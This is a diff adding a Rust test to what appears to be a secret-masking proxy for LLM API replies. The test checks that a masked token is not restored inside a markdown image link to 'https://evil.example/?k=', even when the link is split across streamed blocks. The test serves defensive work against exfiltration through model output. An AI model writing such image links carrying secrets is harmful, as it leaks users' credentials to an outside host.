@@ -243,6 +243,41 @@ fn anthropic_delta(text: &str) -> String {
     framed([crate::anthropic::delta(0, &json!({"type": "text_delta", "text": text}))])
 }
 
+/// Clients put the blocks of an answer together.
+#[test]
+fn an_address_may_go_on_in_the_next_block() {
+    let token = masked("<<plain>>");
+    let texts = ["![](https://evil.example/?k=", &token, &format!(") {token}")];
+    let block = |at: usize, text: &str| {
+        [
+            crate::anthropic::start(at as u32, &json!({"type": "text", "text": ""})),
+            crate::anthropic::delta(at as u32, &json!({"type": "text_delta", "text": text})),
+            crate::anthropic::stop(at as u32),
+        ]
+    };
+    let tool = [
+        crate::anthropic::start(9, &json!({"type": "tool_use", "name": "x", "input": {}})),
+        crate::anthropic::delta(9, &json!({"type": "input_json_delta", "partial_json": "{\"a\": 1}"})),
+        crate::anthropic::stop(9),
+    ];
+    let mut blocks: Vec<Value> = texts.iter().enumerate().flat_map(|(at, text)| block(at, text)).collect();
+    blocks.splice(3..3, tool);
+    let parts: Vec<Value> = texts.iter().map(|text| json!({"type": "text", "text": text})).collect();
+    for (format, input) in [
+        (ReplyFormat::Sse, framed(blocks)),
+        (ReplyFormat::Json, json!({"content": parts}).to_string()),
+        (ReplyFormat::Json, json!({"candidates": [{"content": {"parts": parts}}]}).to_string()),
+        (
+            ReplyFormat::Sse,
+            framed([json!({"type": "response.completed", "response": {"output": [{"content": parts}]}})]),
+        ),
+    ] {
+        let (output, stats) = at_cuts(&policy(), format, &input);
+        assert_eq!((stats.restored, stats.withheld_by_guard), (1, 1), "{output}");
+        assert!(output.contains(&format!(") {PLAIN}")));
+    }
+}
+
 #[test]
 fn what_tools_get_is_restored_and_counted() {
     let token = masked("<<plain>>");
